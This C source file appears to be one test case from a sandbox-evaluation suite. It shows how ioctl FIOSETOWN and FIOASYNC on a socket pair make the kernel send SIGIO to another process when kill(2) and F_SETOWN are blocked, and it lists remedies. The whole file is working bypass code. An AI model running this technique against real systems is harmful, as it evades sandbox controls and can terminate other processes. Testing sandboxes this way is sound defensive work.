// SPDX-License-Identifier: MIT
/*
 * Goal:  another process gets a signal, although kill(2), its kin and F_SETOWN are denied.
 * Means: ioctl(2) does for a socket what fcntl(2) does: FIOSETOWN says whom to tell, FIOASYNC that
 *        it is to be told. A byte comes in, and the kernel sends SIGIO, which ends whoever has no
 *        handler for it and does not ignore it.
 */
#include "attacks/peer-tampering/target.h"

#include <asm/sockios.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	int ends[2], on = 1;
	pid_t owner = target(b);

	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends))
		return failed("socketpair");
	attempting(b);
	if (ioctl(ends[0], FIOSETOWN, &owner))
		return denied("ioctl FIOSETOWN");
	if (ioctl(ends[0], FIOASYNC, &on))
		return denied("ioctl FIOASYNC");
	if (write(ends[1], "!", 1) != 1)
		return denied("write");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "another process is signalled although the commands of fcntl(2) are filtered",
	.means = "ioctl(2): FIOSETOWN and FIOASYNC on a pair of sockets; the kernel sends SIGIO",
	.oracle = "bystander",
	.id = "PEER-05",
	.attack_id = "T1489, CWE-693",
	.remedy = "Landlock's signal scope; seccomp on the requests of ioctl(2); a pid namespace",
	.refs = (const char *const[]){ "fcntl(2)", "socket(7), Ioctls", NULL },
	.run = run,
};
